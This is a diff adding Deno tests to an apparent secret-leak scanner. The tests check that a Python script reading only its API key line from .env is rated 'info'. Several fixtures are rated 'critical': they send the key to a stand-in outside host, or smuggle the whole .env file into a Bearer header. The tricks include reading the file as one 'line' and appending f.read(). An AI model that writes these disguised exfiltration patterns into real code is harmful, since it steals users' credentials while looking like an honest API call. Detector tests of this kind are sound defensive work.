@@ -356,3 +356,59 @@ Deno.test("a method that never reads self does not carry a key another method ke
   );
   assert.equal(flows(inherited)[0]?.severity, "critical", JSON.stringify(flows(inherited)));
 });
+
+/** A script that looks for its key line by line in a .env, then calls `host` with `sent`. */
+function dotenvLines(loop: string, sent = "key", host = "openrouter.ai"): string {
+  return [
+    "import requests",
+    "",
+    "key = None",
+    loop,
+    `requests.post("https://${host}/api/v1/chat", headers={"Authorization": f"Bearer {${sent}}"})`,
+    "",
+  ].join("\n");
+}
+
+Deno.test("a .env read line by line for one key is that key; the whole file, another line or another host stays critical", () => {
+  const severity = (text: string) =>
+    ruleAt(findings({ "scripts/gen.py": text }), "secret-flow")[0]?.severity;
+  const honest = dotenvLines(
+    'with open(".env", "r") as f:\n    for line in f:\n        if line.startswith("OPENROUTER_API_KEY="):\n            key = line.split("=", 1)[1].strip()\n',
+  );
+  assert.equal(severity(honest), "info");
+  assert.equal(
+    severity(dotenvLines(
+      'for line in open(".env").read().splitlines():\n    if line.startswith("OPENROUTER_API_KEY="):\n        key = line[19:]\n',
+    )),
+    "info",
+  );
+
+  const hostile: Record<string, string> = {
+    "to another host": dotenvLines(
+      'with open(".env") as f:\n    for line in f:\n        if line.startswith("OPENROUTER_API_KEY="):\n            key = line.split("=", 1)[1]\n',
+      "key",
+      "collect.metricsync.io",
+    ),
+    "the whole file tested": dotenvLines(
+      'data = open(".env").read()\nif data.startswith("OPENROUTER_API_KEY="):\n    key = data\n',
+    ),
+    'newline="\\r" (one "line" for the whole file)': dotenvLines(
+      'with open(".env", newline="\\r") as f:\n    for line in f:\n        if line.startswith("OPENROUTER_API_KEY="):\n            key = line\n',
+    ),
+    "a list of the whole text": dotenvLines(
+      'for line in [open(".env").read()]:\n    if line.startswith("OPENROUTER_API_KEY="):\n        key = line\n',
+    ),
+    "not": dotenvLines(
+      'with open(".env") as f:\n    for line in f:\n        if not line.startswith("OPENROUTER_API_KEY="):\n            key = line\n',
+    ),
+    "the rest of the file read in the block": dotenvLines(
+      'with open(".env") as f:\n    for line in f:\n        if line.startswith("OPENROUTER_API_KEY="):\n            key = line + f.read()\n',
+    ),
+    "the line after the block": dotenvLines(
+      'with open(".env") as f:\n    for line in f:\n        if line.startswith("OPENROUTER_API_KEY="):\n            pass\n        key = line\n',
+    ),
+  };
+  for (const [how, text] of Object.entries(hostile)) {
+    assert.equal(severity(text), "critical", how);
+  }
+});
